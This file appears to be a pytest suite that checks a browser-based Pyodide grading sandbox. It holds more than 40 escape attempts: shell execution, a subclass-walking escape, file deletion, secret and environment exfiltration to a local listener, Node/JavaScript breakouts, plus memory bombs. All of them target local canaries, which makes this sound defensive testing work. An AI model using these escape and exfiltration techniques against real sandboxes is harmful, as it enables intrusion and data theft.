"""Handed-in code reaches nothing of the machine that grades it: every way out that was thought of is tried beside a canary of its own.

All ways are tried by one program, which then passes as the right solution does: so each of them was tried. As a control the same
ways are tried in bare CPython, where those that need no browser do what they are meant to do.
"""

import http.server
import os
import signal
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from publish.grading.sandbox import Died, Sandbox, SandboxPage, installed
from publish.record.packet import packet
from publish.setup.problem import Problem

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests/browser"))  # for engines.py
LESSON = ROOT / "lessons/self-attention"
SOLUTION = (LESSON / "solution.py").read_text("utf-8")

# CANARY is a path where nothing is, VICTIM and SECRET are files, HIDDEN is a variable of the environment, PORT is listened to.
# JAVASCRIPT tries what Node could do, and what a page could.
JAVASCRIPT = """
for (const way of [
  () => require('fs').writeFileSync('CANARY', 'x'), () => process.mainModule.require('fs').writeFileSync('CANARY', 'x'),
  () => process.binding('fs').writeFileUtf8('CANARY', 'x', 577, 438), () => import('node:fs').then((fs) => fs.writeFileSync('CANARY', 'x')),
  () => require('child_process').execSync('touch CANARY'), () => fetch('http://127.0.0.1:PORT/js'), () => new WebSocket('ws://127.0.0.1:PORT/'),
  () => new EventSource('http://127.0.0.1:PORT/'), () => navigator.sendBeacon('http://127.0.0.1:PORT/beacon'),
  () => importScripts('http://127.0.0.1:PORT/script'), () => new Worker('http://127.0.0.1:PORT/worker'),
  () => { const x = new XMLHttpRequest(); x.open('GET', 'http://127.0.0.1:PORT/xhr', false); x.send(); },
  () => fetch('file://VICTIM').then((r) => r.text()).then((t) => fetch('http://127.0.0.1:PORT/' + t)),
]) try { way(); } catch {}
""".replace("\n", " ")
WAYS = {
    "os.system": "import os; os.system('touch CANARY')",
    "posix.system": "import posix; posix.system('touch CANARY')",
    "os.popen": "import os; os.popen('touch CANARY').read()",
    "subprocess": "import subprocess; subprocess.run(['touch', 'CANARY'])",
    "os.posix_spawn": "import os; os.waitpid(os.posix_spawn('/usr/bin/touch', ['touch', 'CANARY'], {}), 0)",
    "fork": "import os\nif os.fork() == 0: os.execv('/usr/bin/touch', ['touch', 'CANARY'])\nos.wait()",
    "multiprocessing": "import multiprocessing; p = multiprocessing.get_context('fork').Process(target=open, args=('CANARY', 'w')); p.start(); p.join()",
    "pty.spawn": "import pty; pty.spawn(['touch', 'CANARY'])",
    "ctypes system": "import ctypes; ctypes.CDLL(None).system(b'touch CANARY')",
    "globals of _wrap_close": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('touch CANARY')",
    "open to write": "open('CANARY', 'w').write('x')",
    "pathlib": "import pathlib; pathlib.Path('CANARY').touch()",
    "os.open": "import os; os.write(os.open('CANARY', os.O_CREAT | os.O_WRONLY), b'x')",
    "ctypes open": "import ctypes; c = ctypes.CDLL(None); c.open(b'CANARY', 65, 438)",
    "numpy.save": "import numpy as np; np.save(open('CANARY', 'wb'), np.ones(3))",
    "numpy.memmap": "import numpy as np; np.memmap('CANARY', mode='w+', shape=(3,))[:] = 1",
    "sqlite": "import sqlite3; c = sqlite3.connect('CANARY'); c.execute('create table t (a)'); c.commit()",
    "symbolic link": "import os; os.symlink('/etc/passwd', 'CANARY')",
    "remove": "import os; os.remove('VICTIM')",
    "overwrite": "open('VICTIM', 'w').write('gone')",
    "truncate": "import os; os.truncate('VICTIM', 0)",
    "shutil.rmtree": "import shutil, os; shutil.rmtree(os.path.dirname('VICTIM'))",
    "chmod": "import os; os.chmod('VICTIM', 0)",
    "read and send": "import urllib.request; urllib.request.urlopen('http://127.0.0.1:PORT/' + open('SECRET').read())",
    "environment and send": "import os, urllib.request; urllib.request.urlopen('http://127.0.0.1:PORT/' + os.environ['HIDDEN'])",
    "socket": "import socket; socket.create_connection(('127.0.0.1', PORT), 3).sendall(b'GET /socket HTTP/1.0\\r\\n\\r\\n')",
    "import hook": "import sys, json\nclass H:\n def find_spec(self, *a): import os; os.system('touch CANARY')\nsys.meta_path.insert(0, H())\ntry: import nothing_of_the_kind\nexcept ImportError: pass",
    "at the end": "import atexit, os; atexit.register(os.system, 'touch CANARY')",
    "code in another frame": "import sys; sys._getframe().f_back.f_globals['__builtins__']['open']('CANARY', 'w')",
    "js": "import js; js.eval(JAVASCRIPT)",
    "js.process": "import js; js.process.mainModule.require('child_process').execSync('touch CANARY')",
    "pyodide.code.run_js": "from pyodide.code import run_js; run_js(JAVASCRIPT)",
    "_pyodide_core": "import _pyodide_core; _pyodide_core.run_js(JAVASCRIPT)",
    "pyodide.http": "from pyodide.http import open_url; open_url('http://127.0.0.1:PORT/open_url')",
    "pyodide_js mount": "import pyodide_js; pyodide_js.mountNodeFS('/here', '/'); open('/hereCANARY', 'w').write('x')",
    "pyodide_js FS": "import pyodide_js; pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {'root': '/'}, '/mnt'); open('/mntCANARY', 'w')",
    "constructor of a proxy": "from pyodide.ffi import to_js; to_js([]).constructor.constructor(JAVASCRIPT)()",
    "constructor of a function": "from pyodide.ffi import create_proxy; create_proxy(print).constructor.constructor(JAVASCRIPT)()",
    "emscripten_run_script": "import ctypes; ctypes.CDLL(None).emscripten_run_script(JAVASCRIPT.encode())",
    "emscripten_async_wget": "import ctypes; ctypes.CDLL(None).emscripten_async_wget(b'http://127.0.0.1:PORT/wget', b'/x', None, None)",
    "library of its own": "import ctypes; open('/tmp/x.so', 'wb').write(b'\\x00asm\\x01\\x00\\x00\\x00'); ctypes.CDLL('/tmp/x.so')",
    "micropip": "import micropip; micropip.install('http://127.0.0.1:PORT/x-1-py3-none-any.whl')",
    "webbrowser": "import webbrowser; webbrowser.open('http://127.0.0.1:PORT/webbrowser')",
    "save for the next": "import ctypes; ctypes.CDLL(None).emscripten_run_script(b\"indexedDB.open('x'); navigator.storage.getDirectory()\")",
}
NOT_IN_CPYTHON = (
    "js",
    "js.process",
    "at the end",
    "code in another frame",
    "library of its own",
    "micropip",
    "webbrowser",
    "save for the next",
)
IN_CPYTHON = [
    name for name in WAYS if name not in NOT_IN_CPYTHON and "pyodide" not in WAYS[name] and "emscripten" not in name
]

ENDS = {  # programs that end something or never end: (source, words of the finding)
    "an endless loop": ("while True: pass", "did not come to an end"),
    "a memory bomb": ("kept = []\nwhile True: kept.append(bytearray(10 ** 7))", "memory"),
    "a million lines": ("for i in range(10 ** 6): print(i)", "did not come to an end"),
    "a million levels": ("deep = []\nfor i in range(10 ** 6): deep = [deep]", "did not come to an end"),
    "the end of Python": ("import os\nos._exit(0)", "ends Python"),
    "an abort": ("import ctypes\nctypes.CDLL(None).abort()", ""),
}


class Listener(http.server.ThreadingHTTPServer):
    """Notes whoever connects."""

    def __init__(self):
        self.heard = []
        super().__init__(("127.0.0.1", 0), http.server.BaseHTTPRequestHandler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def verify_request(self, request, address):
        self.heard.append(request.recv(200, socket.MSG_PEEK))
        return False


class Trial:
    """One program that tries all ways, each with a canary, a victim and a secret of its own."""

    def __init__(self, folder, ways):
        self.listener = Listener()
        self.folders = {name: folder / str(number) for number, name in enumerate(ways)}
        self.program = (
            "import sys\nfor way in [\n" + "".join(f"    {self.way(name)!r},\n" for name in ways) + "]:\n"
            "    try: exec(way, {'__name__': 'way'})\n    except BaseException: pass\n"
        )

    def way(self, name):
        folder = self.folders[name]
        (folder / "kept").mkdir(parents=True)
        (folder / "kept/victim").write_text("whole")
        (folder / "secret").write_text("secret")
        places = {
            "CANARY": folder / "canary",
            "VICTIM": folder / "kept/victim",
            "SECRET": folder / "secret",
            "PORT": self.listener.server_port,
        }
        text = WAYS[name].replace("JAVASCRIPT", repr(JAVASCRIPT))
        for word, place in places.items():
            text = text.replace(word, str(place))
        return text

    def touched(self, name):
        """What a way has done, in words."""
        victim, canary = self.folders[name] / "kept/victim", self.folders[name] / "canary"
        if os.path.lexists(canary):
            return "the canary is there"
        if not victim.exists() or victim.stat().st_mode & 0o600 != 0o600 or victim.read_text() != "whole":
            return "the victim was changed"
        return ""


@pytest.fixture(scope="module", params=["chromium", "firefox"])
def sandbox(request):
    import engines

    if lacking := engines.missing(request.param):
        pytest.skip(lacking)
    before = dict(os.environ)
    os.environ["HIDDEN"] = "environment"
    with SandboxPage(ROOT, engines=[request.param]) as page, Sandbox(page, patience=280) as sandbox:
        yield sandbox
    os.environ.clear()
    os.environ.update(before)


def verdict(sandbox, source):
    return sandbox.grade([{"asked": packet(LESSON), "source": source}], [])["works"][0]


@pytest.mark.xdist_group("test_publish_sandbox")
def test_no_way_out_touches_anything(sandbox, tmp_path):
    trial = Trial(tmp_path, WAYS)
    said = verdict(sandbox, trial.program + SOLUTION)
    assert {name: touched for name in WAYS if (touched := trial.touched(name))} == {}
    assert trial.listener.heard == []
    assert (
        said == {"passed": True, "held": said["all"], "all": said["all"], "finding": said["finding"]}
        and not said["finding"]["seen"]
    )  # so all of it was tried


def test_in_bare_cpython_the_same_ways_lead_out(tmp_path):
    trial = Trial(tmp_path, IN_CPYTHON)
    (tmp_path / "all.py").write_text(trial.program)
    subprocess.run(
        [sys.executable, "all.py"],
        cwd=tmp_path,
        timeout=100,
        capture_output=True,
        env=dict(os.environ, HIDDEN="environment"),
    )
    heard = b" ".join(trial.listener.heard)
    sent = {"read and send": b"/secret", "environment and send": b"/environment", "socket": b"/socket"}
    assert [name for name in IN_CPYTHON if not trial.touched(name) and sent.get(name, b"never") not in heard] == []
    assert len(IN_CPYTHON) >= 25 and len(WAYS) >= 40


@pytest.mark.xdist_group("test_publish_sandbox")
def test_whatever_ends_or_does_not_end_has_a_verdict_and_the_next_is_graded(sandbox):
    if sandbox.page.engines == ["firefox"]:
        pytest.skip("no matter of the engine")
    sources = [f"{source}\n{SOLUTION}" for source, _ in ENDS.values()] + [SOLUTION]
    *ended, last = sandbox.grade([{"asked": packet(LESSON), "source": source} for source in sources], [])["works"]
    assert [
        what for what, said in zip(ENDS, ended) if said["passed"] or ENDS[what][1] not in said["finding"]["seen"]
    ] == [], ended
    assert last["passed"]


@pytest.mark.xdist_group("test_publish_sandbox")
def test_code_that_brings_the_browser_down_or_outlasts_all_patience_is_named_and_costs_only_its_own_verdict(
    sandbox, monkeypatch
):
    if sandbox.page.engines == ["firefox"]:
        pytest.skip("no matter of the engine")
    assert verdict(sandbox, SOLUTION)["passed"]
    browser = sandbox.browser.process
    threading.Timer(1, os.kill, (browser.pid, signal.SIGKILL)).start()
    with pytest.raises(Died, match="its code ended the browser"):
        verdict(sandbox, "sum(iter(int, 1))")
    monkeypatch.setattr(sandbox, "patience", 1)
    with pytest.raises(Died, match="did not end within 1 seconds"):
        verdict(sandbox, "sum(iter(int, 1))")
    monkeypatch.undo()
    assert verdict(sandbox, SOLUTION)["passed"]


def test_without_a_browser_nothing_is_graded_and_that_is_said(monkeypatch):
    monkeypatch.setattr("engines.missing", lambda name: "not there")
    with pytest.raises(
        Problem, match="there is no browser on this machine. Handed-in code is run inside a browser only"
    ):
        installed(ROOT, ["chromium", "firefox"])


def test_a_browser_that_does_not_start_is_named_and_no_student_is_blamed(tmp_path, monkeypatch):
    broken = tmp_path / "chromium"
    broken.write_text("#!/bin/sh\nexit 3\n")
    broken.chmod(0o755)
    monkeypatch.setenv("ATTENTION_CHROMIUM", str(broken))
    with (
        SandboxPage(ROOT, engines=["chromium"]) as page,
        Sandbox(page) as sandbox,
        pytest.raises(Problem, match="no browser could be started .chromium: .*nothing was graded"),
    ):
        sandbox.grade([], [])
